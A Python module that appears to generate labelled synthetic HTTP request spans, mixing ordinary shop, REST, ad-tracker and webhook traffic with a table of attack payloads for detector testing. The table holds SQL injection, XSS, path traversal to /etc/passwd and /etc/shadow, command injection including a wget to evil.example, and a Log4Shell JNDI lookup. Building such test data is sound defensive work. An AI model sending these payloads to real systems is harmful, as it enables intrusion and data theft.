"""What clients send to three kinds of API, and what attackers put in its place: texts for spans, of known truth."""

from __future__ import annotations

import base64
import json
import random
from collections.abc import Callable, Mapping
from typing import Final
from urllib.parse import quote, quote_plus

Told = dict[str, str]
"""The attributes of one request: `path`, `route`, `query`, `body`, `agent`, `referer`."""

WORDS: Final = (
    *(
        "red shoes",
        "summer dress size 38",
        "o'neill t-shirt",
        "lamp & table",
        "select comfort pillow",
        "king's cross map",
        "drop leaf table",
    ),
    *(
        "women's boots",
        "Müller kaffee",
        "crème brûlée set",
        "usb-c cable 2m",
        "50% off",
        "a/c adapter 12v",
        "C++ primer",
        "union jack flag",
    ),
    *("case for iphone 15", '50" tv', "tom & jerry", "and so it goes", "order of the phoenix", "group games", "top hat", "values of n"),
    *("table or desk", "iPhone (refurbished)", "salt; pepper", "10x15 frame"),
)
AGENTS: Final = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_{w} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.{w} Mobile/15E148",
    "Mozilla/5.0 (X11; Linux x86_64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0",
    "ShopApp/3.{w} (Android 14; Pixel 8)",
)
SELDOM: Final = (
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "python-requests/2.{v}.0",
    "curl/8.{w}.0",
    "okhttp/4.1{w}.0",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "Mozilla/5.0 (Linux; Android 1{w}; SM-G99{w}B Build/TP1A.{v}0624.014; wv) Version/4.0 Mobile [FBAN/FB4A;FBAV/4{v}.0;]",
    "Dalvik/2.1.0 (Linux; U; Android 13; M2{v}1K{w}AG)",
    "-",
)
HEX: Final = "0123456789abcdef"


def _hex(chance: random.Random, length: int) -> str:
    return "".join(chance.choice(HEX) for _ in range(length))


def shop(chance: random.Random) -> Told:
    """Pages, products, searches, logins of a web shop; headers are captured."""
    agent = chance.choice(SELDOM if chance.random() < 0.05 else AGENTS).format(v=chance.randint(118, 128), w=chance.randint(0, 6))
    referer = f"https://shop.example.org/products/{chance.randint(1, 400)}" if chance.random() < 0.6 else "https://www.google.com/"
    if chance.random() < 0.02:
        referer = f"https://t.example.net/r?u={quote(chance.choice(WORDS), safe='')}&id={_hex(chance, 12)}#{chance.randint(1, 9)}"
    told = {"agent": agent, "referer": referer}
    kind = chance.random()
    if kind < 0.35:
        return told | {"path": f"/products/{chance.randint(1, 400)}", "route": "/products/{id}"}
    if kind < 0.6:
        text = chance.choice(WORDS) if chance.random() < 0.7 else " ".join(chance.sample([*"abcdefg", "blue", "oak", "xl", "2024"], 2))
        return told | {"path": "/search", "route": "/search", "query": f"q={quote_plus(text)}&page={chance.randint(1, 9)}"}
    if kind < 0.8:
        return told | {"path": f"/assets/{chance.choice(('app', 'shop', 'icons'))}.{_hex(chance, 8)}.js", "route": ""}
    if kind < 0.9:
        name = chance.choice(("ann", "bob.smith", "o'hara", "müller", "li-na"))
        return told | {"path": "/login", "route": "/login", "body": f"name={quote_plus(name)}&password={quote_plus(_hex(chance, 9) + '!')}"}
    return told | {"path": "/cart", "route": "/cart", "query": f"currency={chance.choice(('EUR', 'USD'))}"}


def rest(chance: random.Random) -> Told:
    """A JSON API: ids, filters, dates, cursors."""
    kind = chance.random()
    if kind < 0.4:
        id = f"{_hex(chance, 8)}-{_hex(chance, 4)}-4{_hex(chance, 3)}-a{_hex(chance, 3)}-{_hex(chance, 12)}"
        return {"path": f"/v1/orders/{id}", "route": "/v1/orders/{id}"}
    if kind < 0.75:
        cursor = base64.urlsafe_b64encode(f"{chance.randint(10**9, 10**10)}:{chance.randint(1, 99)}".encode()).decode()
        day = f"2026-{chance.randint(1, 12):02}-{chance.randint(1, 28):02}"
        query = f"status={chance.choice(('open', 'paid', 'sent'))}&sort=-created&from={day}T00%3A00%3A00Z&cursor={quote(cursor)}"
        return {"path": "/v1/orders", "route": "/v1/orders", "query": query}
    note = chance.choice(("", "ring twice", "leave with Mrs. O'Brien", "2nd floor, left", "call +49 170 1234567", "gate code #44"))
    items = [{"sku": f"A-{chance.randint(100, 999)}", "count": chance.randint(1, 5)} for _ in range(chance.randint(1, 3))]
    body = {"customer": chance.randint(1, 5_000), "items": items, "note": note, "express": chance.random() < 0.2}
    return {"path": "/v1/orders", "route": "/v1/orders", "body": json.dumps(body)}


def ads(chance: random.Random) -> Told:
    """Long queries of trackers: tokens, sizes, macros that were filled, nested URLs."""
    page = quote(f"https://news.example.org/{chance.choice(('sport', 'world'))}/{chance.randint(1, 9_999)}?utm={_hex(chance, 4)}", safe="")
    names = {"cb": str(chance.randint(1, 10**9)), "u": _hex(chance, 32), "sz": chance.choice(("300x250", "728x90")), "ref": page}
    more = {f"k{number}": chance.choice((_hex(chance, 6), str(chance.randint(0, 99)), "", "1|0|3", "a,b,c")) for number in range(18)}
    token = base64.b64encode(chance.randbytes(24)).decode()
    query = "&".join(f"{name}={value}" for name, value in {**names, **more, "t": quote(token, safe="")}.items())
    return {"path": "/imp", "route": "/imp", "query": query}


def integration(chance: random.Random) -> Told:
    """Programs only: one polls, one syncs page by page, one takes webhooks."""
    kind = chance.random()
    if kind < 0.4:
        return {
            "path": "/v1/events",
            "route": "/v1/events",
            "query": f"after={chance.randint(10**9, 10**10)}&limit=100",
            "agent": "poller/1.2",
        }
    if kind < 0.7:
        return {
            "path": "/v1/products",
            "route": "/v1/products",
            "query": f"page={chance.randint(1, 900)}&size=200",
            "agent": "erp-sync/7.0",
        }
    sent = {"id": f"evt_{_hex(chance, 20)}", "type": chance.choice(("paid", "refunded", "sent")), "amount": chance.randint(1, 99_999)}
    hook = {"path": "/hooks/payments", "route": "/hooks/payments", "body": json.dumps(sent), "agent": "Payments-Hook/1.0"}
    return hook | {"referer": "-"}


SHAPES: Final[dict[str, Callable[[random.Random], Told]]] = {"shop": shop, "rest": rest, "ads": ads, "integration": integration}

ATTACKS: Final[dict[str, dict[str, tuple[str, ...]]]] = {
    "sql injection": {
        "plain": ("1' OR '1'='1' -- ", "1 UNION SELECT name,pass,3 FROM users", "1; DROP TABLE orders", "1' AND SLEEP(5)#"),
        "disguised": (
            "1'/**/oR/**/2>1#",
            "-1%27%20uNiOn%20aLL%20sElEcT%201,2,3",
            "1'||(select 1 from dual)||'",
            "1' and 7=if(1=1,7,0) and 'a'='a",
        ),
    },
    "markup": {
        "plain": ("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "<svg/onload=confirm(1)>"),
        "disguised": ("%253Cscript%253Ealert(1)", "javascript:alert`1`", '" autofocus onfocus="alert(1)'),
    },
    "path traversal": {
        "plain": ("../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow"),
        "disguised": ("..%252f..%252fconf", "....//....//etc/hosts", "%c0%ae%c0%ae/conf"),
    },
    "command": {
        "plain": ("x; cat /etc/passwd", "x | wget http://evil.example/a", "`id`", "$(whoami)"),
        "disguised": ("x%0aping -c 3 10.0.0.1", "x;c'a't /et'c'/hosts", "x&&uname -a"),
    },
    "template and code": {
        "plain": ("${jndi:ldap://evil.example/a}", "{{7*7}}", "<?php system('id');?>", "${T(java.lang.Runtime).getRuntime()}"),
        "disguised": ("${${lower:j}ndi:dns://x.example}", "#{1+1}", "__class__.__mro__"),
    },
    "tampering": {
        "plain": ("admin", "-1", "99999999999999999999", "null", "2-1", "a" * 300),
        "disguised": ("true", "0", "1.0", "%31"),
    },
}
"""By kind and strength; disguised ones are encoded, commented or nearly ordinary."""


def attacked(told: Told, text: str, where: str, chance: random.Random) -> Told:
    """The request with an attack in place of a value: in the query, path, body or a header; where there is none of that, in the query."""
    if where == "header":
        return told | {chance.choice(("agent", "referer")): text}
    if where == "path":
        head, _, _ = told["path"].rpartition("/")
        return told | {"path": f"{head}/{quote(text, safe='%./')}", "route": told["route"] if "{" in told["route"] else ""}
    if where == "body" and told.get("body", "").startswith("{"):
        return told | {"body": json.dumps(json.loads(told["body"]) | {chance.choice(("note", "customer")): text})}
    pairs = [pair.partition("=") for pair in told.get("query", "").split("&") if pair]
    if not pairs:
        return told | {"query": f"id={quote(text, safe='%')}"}
    at = chance.randrange(len(pairs))
    written = [f"{name}={quote(text, safe='%') if number == at else value}" for number, (name, _, value) in enumerate(pairs)]
    return told | {"query": "&".join(written)}


def attributes(told: Mapping[str, str]) -> dict[str, str]:
    """As stable names tell it."""
    keys = {
        "path": "url.path",
        "route": "http.route",
        "query": "url.query",
        "body": "http.request.body.content",
        "agent": "user_agent.original",
        "referer": "http.request.header.referer",
    }
    return {"http.request.method": "POST" if "body" in told else "GET"} | {keys[name]: text for name, text in told.items()}
